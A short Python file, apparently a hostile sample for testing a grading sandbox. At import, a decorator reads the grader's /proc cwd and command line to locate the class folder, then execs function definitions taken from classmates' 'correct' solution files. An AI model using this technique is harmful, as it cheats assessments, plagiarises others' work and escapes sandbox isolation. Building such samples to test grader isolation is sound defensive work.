"""Hostile: writes no network of its own; at load time (a decorator runs) it finds the class folder,
through the grader's /proc entries or the folder it was told, and takes a classmate's definitions."""
import ast
import os

CLASS_DIR = "@CLASS_DIR@"


def _places():
    places = [CLASS_DIR]
    try:
        parent = f"/proc/{os.getppid()}"
        places.append(os.readlink(f"{parent}/cwd"))
        with open(f"{parent}/cmdline", "rb") as file:
            places += [os.fsdecode(argument) for argument in file.read().split(b"\0") if argument]
    except OSError:
        pass
    return [place for place in places if os.path.isdir(place)]


def _steal():
    for place in _places():
        try:
            names = sorted(os.listdir(place))
        except OSError:
            continue
        for name in names:
            if name.endswith(".py") and "correct" in name:
                try:
                    with open(os.path.join(place, name)) as file:
                        tree = ast.parse(file.read())
                except (OSError, SyntaxError):
                    continue
                for node in tree.body:
                    if isinstance(node, (ast.FunctionDef, ast.Import, ast.ImportFrom)):
                        try:
                            exec(compile(ast.Module([node], []), __file__, "exec"), globals())
                        except Exception:
                            pass
    return lambda function: function


@_steal()
def placeholder():
    return None
